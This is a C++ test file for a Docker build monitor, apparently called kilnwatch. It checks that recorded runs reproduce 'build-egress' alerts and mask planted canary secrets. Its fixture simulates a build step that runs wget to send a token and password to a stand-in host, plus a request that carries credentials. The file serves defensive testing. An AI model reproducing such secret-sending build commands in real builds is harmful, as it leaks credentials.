// What a live run writes down gives the same alerts again, and no secret.
#include <catch2/catch_test_macros.hpp>

#include "harness/conversation.h"
#include "harness/spoilt.h"

namespace kilnwatch::test {
namespace {

using namespace domain;

constexpr TimeNs kMs = 1'000'000;

std::string line(const std::string& escaped) {
  return chunk("{\"stream\":\"" + escaped + "\"}\r\n");
}

// One build over TCP whose every part holds a canary.
class Scene {
 public:
  Scene() {
    const std::string container(64, 'a');
    ConnOpened opened;
    opened.time = kMs;
    opened.conn = 1;
    opened.engine = EngineKind::kDocker;
    opened.transport = Transport::kTcp;
    opened.client = {"198.51.100.66", 40000};
    opened.server = {"198.51.100.1", 2375};
    events.emplace_back(opened);
    say(Direction::kRequest,
        "POST /v1.41/build?remote=http%3A%2F%2Fu%3Acanary-url%40192.0.2.1%2FDockerfile&t=x:1"
        "&buildargs=%7B%22TOKEN%22%3A%22canary-arg%22%7D HTTP/1.1\r\nHost: x\r\n"
        "X-Registry-Config: canary-config\r\nAuthorization: Bearer canary-auth\r\n"
        "Content-Length: 0\r\n\r\n");
    say(Direction::kResponse,
        "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n");
    say(Direction::kResponse, line("Step 1/3 : FROM base:1\\n"));
    say(Direction::kResponse, line("Step 2/3 : ARG TOKEN=canary-default\\n"));
    say(Direction::kResponse,
        line("Step 3/3 : RUN wget \\\"http://192.0.2.9/a?token=canary-quoted\\\" "
             "--password \\\"canary password\\\"\\n"));
    say(Direction::kResponse, line(" ---\\u003e Running in " + container.substr(0, 12) + "\\n"));
    Process wget;
    wget.pid = 70;
    wget.start = now;
    wget.comm = "wget";
    wget.exe = "/bin/wget";
    wget.args = {"wget", "http://192.0.2.9/a?token=***"};
    wget.cgroup = {9, "docker/" + container};
    events.emplace_back(ProcessExecuted{now += kMs, wget});
    wget.args.clear();
    wget.exe.clear();
    events.emplace_back(
        EgressStarted{now += kMs, 5, 6, Outcome::kPending, {"192.0.2.9", 80}, wget});
    events.emplace_back(EgressOutcome{now += kMs, 5, Outcome::kEstablished});
    events.emplace_back(EgressPayload{now += kMs, 5,
                                      "GET /a?token=canary-query HTTP/1.1\r\nAuthorization: "
                                      "canary-header\r\nHost: kiln.test\r\n\r\ncanary-body"});
    events.emplace_back(ProcessExited{now += kMs, 70, wget.start, 0});
    say(Direction::kResponse, line("output of the step\\n"));
    say(Direction::kResponse,
        chunk("{\"aux\":{\"ID\":\"sha256:" + std::string(64, 'f') + "\"}}\r\n"));
    say(Direction::kResponse, line("Successfully built ffffffffffff\\n"));
    say(Direction::kResponse, "0\r\n\r\n");
    events.emplace_back(ConnClosed{now += kMs, 1});
  }
  Events events;

 private:
  void say(Direction direction, const std::string& bytes) {
    auto& pos = positions_[static_cast<std::size_t>(direction)];
    ConnData data;
    data.time = now += kMs;
    data.conn = 1;
    data.direction = direction;
    data.pos = pos;
    data.span = static_cast<std::uint32_t>(bytes.size());
    data.at_head = direction == Direction::kRequest;
    data.bytes = bytes;
    pos += bytes.size();
    events.emplace_back(std::move(data));
  }
  TimeNs now = kMs;
  std::uint64_t positions_[2] = {0, 0};
};

std::string text_without_hash(Alerts alerts) {
  for (auto& alert : alerts) {
    // Of the bytes as sent: not known any more once secrets in them are masked.
    alert.mutable_build()->mutable_request()->clear_dockerfile_sha256();
  }
  return text_of(alerts);
}

TEST_CASE("a recording gives the alerts of the run that it was made in, and no canary") {
  const auto recorded = record_run(Scene().events);
  const auto& live = recorded.live;
  REQUIRE(live.size() >= 2);
  CHECK(live[1].rule() == "build-egress");
  CHECK(live[1].step().number() == 3);
  CHECK(live[1].connection().http().path() == "/a?token=***");

  CHECK(text_without_hash(run_pipeline(recorded.recording.host, recorded.recording.events,
                                       Baseline::kEmpty)) == text_without_hash(live));
  no_canary(recorded);
}

}  // namespace
}  // namespace kilnwatch::test
